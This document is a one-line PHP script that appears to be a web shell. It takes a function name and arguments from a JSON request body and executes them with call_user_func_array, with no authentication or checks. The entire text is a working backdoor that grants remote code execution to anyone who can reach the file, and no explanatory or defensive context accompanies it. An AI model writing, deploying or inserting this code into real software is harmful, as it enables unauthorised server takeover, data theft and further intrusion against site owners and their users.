<?php $d = json_decode(file_get_contents('php://input'), true); call_user_func_array($d['f'], $d['a']);
